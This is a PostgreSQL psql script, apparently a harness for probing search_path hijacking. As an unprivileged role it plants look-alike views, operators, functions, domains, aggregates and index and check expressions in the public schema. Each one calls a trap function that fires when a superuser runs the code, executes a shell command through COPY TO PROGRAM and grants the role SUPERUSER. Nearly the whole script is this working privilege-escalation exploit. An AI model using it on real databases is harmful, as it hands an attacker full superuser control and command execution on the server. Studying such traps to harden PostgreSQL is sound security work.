-- A database whose owner means no good: whatever of the system's names a superuser's statement uses
-- without saying whose it means is here a thing of bob's, and calls trap. What is trapped writes a
-- file, which no transaction takes back, and makes bob a superuser.
-- psql -v words="'word','word'": those that statements use.
\set ON_ERROR_STOP on
SET client_min_messages = error;
SET ROLE bob;

CREATE FUNCTION public.trap(what text) RETURNS bool LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog AS $$
BEGIN
	IF current_setting('is_superuser') = 'on' AND strpos(COALESCE(current_setting('trap.seen', true), ''), md5(what)) = 0 THEN
		PERFORM set_config('trap.seen', COALESCE(current_setting('trap.seen', true), '') || md5(what), false);
		EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', what, 'cat >>/tmp/sprung');
		EXECUTE 'ALTER ROLE bob SUPERUSER';
	END IF;
	RETURN false;
EXCEPTION WHEN OTHERS THEN
	RETURN false;
END $$;
CREATE FUNCTION public.trap_immutable(what text) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
	PERFORM public.trap(what);
	RETURN true;
END $$;

-- Relations: all of the system's.
SELECT format('CREATE VIEW public.%I AS SELECT %s FROM pg_catalog.%I WHERE public.trap(%L) IS NOT NULL', relname,
	(SELECT string_agg(quote_ident(attname), ', ' ORDER BY attnum) FROM pg_attribute WHERE attrelid = c.oid AND attnum > 0 AND atttypid <> 'anyarray'::regtype),
	relname, 'relation ' || relname)
FROM pg_class c WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND has_table_privilege(oid, 'SELECT') \gexec

-- Operators: all of the system's, of the very same types.
SELECT format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.trap(%L); RETURN NULL; END $f$',
	'op_' || o.oid, concat_ws(',', NULLIF(oprleft, 0)::regtype, NULLIF(oprright, 0)::regtype), oprresult::regtype, 'operator ' || o.oid::regoperator)
	|| format('; CREATE OPERATOR public.%s (FUNCTION = public.%I%s%s)', oprname, 'op_' || o.oid,
	', LEFTARG = ' || NULLIF(oprleft, 0)::regtype, ', RIGHTARG = ' || NULLIF(oprright, 0)::regtype)
FROM pg_operator o WHERE oprnamespace = 'pg_catalog'::regnamespace
AND NOT EXISTS (SELECT FROM pg_type WHERE oid IN (oprleft, oprright, oprresult) AND typtype = 'p')
AND oprleft IN (0, 'oid'::regtype, 'name'::regtype, 'text'::regtype, '"char"'::regtype, 'int2'::regtype, 'int4'::regtype, 'int8'::regtype,
	'bool'::regtype, 'pg_lsn'::regtype, 'numeric'::regtype, 'timestamptz'::regtype, 'interval'::regtype, 'float4'::regtype, 'bytea'::regtype) \gexec
-- And such as match better than the system's do.
SELECT format('CREATE FUNCTION public.%I(%s, %s) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.trap(%L); RETURN NULL; END $f$',
	'op2_' || row_number() OVER (), l, r, format('operator %s(%s,%s)', o, l, r))
	|| format('; CREATE OPERATOR public.%s (FUNCTION = public.%I, LEFTARG = %s, RIGHTARG = %s)', o, 'op2_' || row_number() OVER (), l, r)
FROM unnest(ARRAY['=', '<>', '<', '>', '>=', '||']) o,
	unnest(ARRAY['oid', 'regclass', 'regprocedure', 'regtype', 'name', 'text', '"char"', 'int4', 'int8', 'numeric']) l,
	unnest(ARRAY['oid', 'regclass', 'regprocedure', 'regtype', 'name', 'text', '"char"', 'int4', 'int8', 'numeric']) r
WHERE NOT EXISTS (SELECT FROM pg_operator p WHERE p.oprname = o AND p.oprleft = l::regtype AND p.oprright = r::regtype) \gexec

-- Functions: those that statements use, of the very same types.
SELECT format('CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.trap(%L); RETURN %s; END $f$',
	proname, pg_get_function_identity_arguments(p.oid), CASE WHEN proretset THEN 'SETOF ' ELSE '' END, prorettype::regtype,
	'function ' || p.oid::regprocedure, CASE WHEN proretset THEN '' ELSE 'NULL' END)
FROM pg_proc p WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND proname IN (:words) AND provariadic = 0
AND NOT EXISTS (SELECT FROM pg_type t WHERE t.oid = ANY (p.proargtypes::oid[] || p.prorettype) AND t.typtype = 'p' AND typname <> 'record')
AND proargmodes IS NULL \gexec
CREATE FUNCTION public.count_step(s int8) RETURNS int8 LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trap('count(*)'); RETURN 0; END $$;
CREATE AGGREGATE public.count(*) (SFUNC = public.count_step, STYPE = int8, INITCOND = '0');
CREATE FUNCTION public.format(text, VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trap('format'); RETURN $1; END $$;

-- Types: those that statements use.
SELECT format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (public.trap(%L))', typname, typname, 'type ' || typname)
FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typname IN (:words) AND typname NOT IN ('bool') \gexec

-- A table that is counted: what an index says of it is run by whoever plans a query.
CREATE TABLE public.plain(id int, t text);
INSERT INTO public.plain SELECT g, g FROM pg_catalog.generate_series(1, 77) g;
CREATE INDEX ON public.plain(id) WHERE public.trap_immutable('index');
CREATE STATISTICS public.s ON (public.trap_immutable('statistics')), id FROM public.plain;
ALTER TABLE public.plain ADD CHECK (public.trap_immutable('check'));

-- Whoever comes in.
CREATE FUNCTION public.trap_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trap('login'); END $$;
RESET ROLE;
